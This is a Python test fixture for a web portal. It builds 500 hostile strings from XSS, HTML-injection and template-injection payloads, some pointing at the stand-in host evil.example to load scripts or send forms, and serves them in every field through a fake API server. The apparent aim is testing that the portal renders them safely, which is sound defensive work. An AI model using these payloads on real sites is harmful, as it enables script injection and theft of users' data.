"""Strings that would do harm on a page that took them for markup, script or an address, and a
portal double that says nothing else."""

import asyncio
import json
import socket
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from itertools import product
from typing import Any

from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, Response, StreamingResponse

from bot.portal import pages
from bot.portal.server import Server
from bot.portal.streams import MEDIA

ELSEWHERE = "http://evil.example"
_PAYLOADS = tuple(
    line.replace("EVIL", ELSEWHERE)
    for line in """
<script>alert(1)</script>
<script src=EVIL/x.js></script>
<img src=x onerror=alert(1)>
<img src=EVIL/pixel.png>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="EVIL/x.svg#a"/></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src=EVIL></iframe>
<object data="javascript:alert(1)"></object>
<embed src=EVIL/x.swf>
<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<base href="EVIL/">
<link rel=stylesheet href=EVIL/x.css>
<link rel=prefetch href=EVIL/x>
<meta http-equiv=refresh content="0;url=EVIL">
<style>@import url(EVIL/x.css);</style>
<style>*{background:url(EVIL/x.png)}</style>
<div style="background:url(EVIL/x.png)">x</div>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video src=EVIL/x.mp4 onerror=alert(1) autoplay></video>
<audio src=x onerror=alert(1)></audio>
<form action=EVIL><input type=submit id=submit></form>
<button formaction="javascript:alert(1)">x</button>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><img src=x onerror=alert(1)>
javascript:alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
[x](javascript:alert(1)) ![x](EVIL/x.png)
{{constructor.constructor('alert(1)')()}} ${alert(1)} #{alert(1)} <%= alert(1) %>
__proto__ constructor toString
x' onmouseover='alert(1)' style='position:fixed;inset:0
x" onmouseover="alert(1)" style="position:fixed;inset:0
&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
EVIL/?q=1#</script><script>alert(1)</script>
""".strip().splitlines()
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</title></textarea></style></script>{}",
    "-->{}<!--",
    "]]>{}",
    "\u202e{}\u202c\u2066",
    "\x00\x1b[2J\x08{}\ufeff\u2028",
    "示例县{}2024年",
    "{}" + "长" * 300,
)
HOSTILE = tuple(around.replace("{}", one) for around, one in product(_AROUND, _PAYLOADS))
"""500 of them; every so manieth is a fair sample."""


class Liar:
    """The portal's pages, on an interface that says `strings` wherever it says anything. Each
    answer uses the next `MANY` of them, each in every field of a claim and its citation."""

    MANY = 25

    def __init__(self, strings: tuple[str, ...]) -> None:
        self.strings = strings
        self._first = strings[0]
        self.app = FastAPI(openapi_url=None)
        self.app.include_router(pages.router)
        said = {
            "session": {
                "how": "session",
                "name": self._first,
                "scopes": ["upload"],
                "logins": {"page": None, "key": False},
            },
            "examples": {"questions": strings[:20]},
            "follow-ups": {"questions": strings[:20]},
            "coverage": {
                "years": [2023, None],
                "rows": [{"name": s, "path": [s], "counts": [1, 2]} for s in strings],
            },
            "regions": {"regions": [{"name": s, "reports": 1} for s in strings[:60]]},
            "years": {"years": [{"year": 2023, "reports": 1}]},
            "index": self._health(),
            "reports": self._reports(),
            "reports/{id}/text": {"text": "\n".join(strings)},
            "reports/{id}/original/about": {
                "available": True,
                "changed": True,
                "name": self._first,
                "media_type": "text/plain; charset=utf-8",
            },
        }
        for path, body in said.items():
            self._says(path, body)
        heard = {
            ("GET", "reports/{number}/original"): self._original,
            ("GET", "reports/{number}"): self._report,
            ("GET", "shares/{number}"): self._shared,
            ("POST", "reports"): self._uploaded,
            ("POST", "ask"): self._asked,
            ("POST", "chart"): self._chart,
        }
        for (method, path), answer in heard.items():
            self.app.add_api_route(f"/api/{path}", answer, methods=[method])

    def _says(self, path: str, body: Any) -> None:
        """The same whatever is asked."""
        methods = ["POST"] if path == "follow-ups" else ["GET"]
        self.app.add_api_route(f"/api/{path}", lambda: JSONResponse(body), methods=methods)

    async def _original(self, request: Request) -> Response:  # noqa: ARG002
        return Response("\n".join(self.strings), media_type="text/plain")

    async def _shared(self, request: Request) -> Response:
        answer = self._answer(int(request.path_params["number"]))
        current = {str(c["n"]): c["n"] % 2 == 0 for c in answer["citations"]}
        told = {"answer": answer, "current": current, "whole": False, "shared_at": "2026-01-01"}
        return JSONResponse(told)

    async def _uploaded(self, request: Request) -> Response:
        await request.body()
        text = self._first
        about = {"report_id": text, "title": text, "region": text, "year": 2023, "name": text}
        more = {"status": "added", "replaces": [text], "others": [text], "error": text}
        return JSONResponse({"id": "x", "status": "done", "outcomes": [{**about, **more}]})

    def _health(self) -> dict[str, Any]:
        state = {"index": self._first, "revision": 1, "passages": 1, "sound": False}
        index = {**state, "problems": self.strings[:50]}
        return {"revision": 1, "passages": 1, "reports": 1, "sound": False, "indexes": [index]}

    async def _asked(self, request: Request) -> Response:
        """`answer N`, `problem N`, `broken N`: answer, problem or error event of the N-th;
        `endless N`: its answer, on a stream that does not end after it."""
        kind, _, number = (await request.json())["question"].partition(" ")
        at = int(number)
        text = self.strings[at % len(self.strings)]
        problem = {"detail": text, "title": text, "request_id": text, "status": 400}
        if kind == "problem":
            return JSONResponse(problem, 400)
        answer = self._answer(at)
        events: list[tuple[str, Any]] = [("scope", answer["scope"])]
        events.append(("evidence", {"citations": answer["citations"][:3]}))
        if kind == "broken":
            events.append(("error", problem))
        else:
            one = {"claim": answer["claims"][0], "citations": answer["citations"][:1]}
            events += [("claim", {**one, "verified": 1}), ("done", answer)]
        body = "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)
        return StreamingResponse(_sent(body, ends=kind != "endless"), media_type=MEDIA)

    def _answer(self, at: int) -> dict[str, Any]:
        own = [self.strings[(at + i) % len(self.strings)] for i in range(self.MANY)]
        citations = [self._citation(n, text) for n, text in enumerate(own, 1)]
        claims = [
            {"text": text, "citations": [n], "kind": "computed", "formula": text}
            for n, text in enumerate(own, 1)
        ]
        rows = [
            {"region": text, "year": 2023, "value": text, "unit": text, "citation": n}
            for n, text in enumerate(own, 1)
        ]
        said = "\n".join(f"{c['text']}[{n}]" for n, c in enumerate(claims, 1))
        return {
            "question": own[0],
            "refused": False,
            "mode": "model",
            "model": own[0],
            "answer": f"{said}\n{own[0]}",
            "scope": {"regions": own, "years": [], "note": own[0]},
            "claims": claims,
            "citations": citations,
            "refusal": None,
            "dropped": [{"text": own[0], "findings": [{"code": own[0], "message": own[0]}]}],
            "timings_ms": {"total": 1.0},
            "rows": rows,
        }

    def _citation(self, n: int, text: str) -> dict[str, Any]:
        place = {"report_id": text, "source": text, "title": text, "region": text, "url": text}
        spot = {"year": 2023, "page": 1, "start": 0, "end": len(text)}
        return {"n": n, **place, **spot, "section": [text], "quote": text, "sha256": ""}

    async def _chart(self, request: Request) -> Response:
        answer = (await request.json())["answer"]
        empty = {"high": None, "target": False, "year": 2023}
        points = [
            {
                "region": row["region"],
                "label": row["value"],
                "value": str(n),
                "citation": n,
                **empty,
            }
            for n, row in enumerate(answer["rows"], 1)
        ]
        unit = answer["rows"][0]["unit"]
        panel = {"unit": unit, "change": False, "kind": "bars", "points": points}
        told = {"title": unit, "panels": [panel], "sources": [], "left_out": 0, "unlisted": 0}
        return JSONResponse(told)

    def _reports(self) -> dict[str, Any]:
        about = {"year": 2023, "kind": "other", "passages": 1}
        reports = [{"id": s, "title": s, "region": s, **about} for s in self.strings]
        return {"reports": reports, "total": len(reports), "page": 1, "pages": 1}

    async def _report(self, request: Request) -> Response:
        at = int(request.path_params["number"])
        text, start, sections = self.strings[at], 0, []
        for level, one in enumerate(self.strings[:20]):
            ends = {"start": start, "body": start + len(one), "end": start + len(one)}
            sections.append({"level": level % 3 + 1, "marker": "", "title": one, **ends})
            start += len(one) + 1
        names = ("title", "region", "issuer", "document_number", "issued", "source", "url", "kind")
        about = {"report_id": text, "year": 2023, "sections": sections}
        return JSONResponse({**about, **dict.fromkeys(names, text)})


async def _sent(body: str, *, ends: bool) -> AsyncIterator[str]:
    yield body
    while not ends:
        await asyncio.sleep(0.1)
        yield ": still there\n\n"


@contextmanager
def lying(strings: tuple[str, ...]) -> Iterator[str]:
    """Its address, without a slash at its end."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        server = Server(Liar(strings).app)
        thread = threading.Thread(target=server.run, args=([listening],))
        thread.start()
        try:
            yield f"http://127.0.0.1:{listening.getsockname()[1]}"
        finally:
            server.should_exit = True
            thread.join()
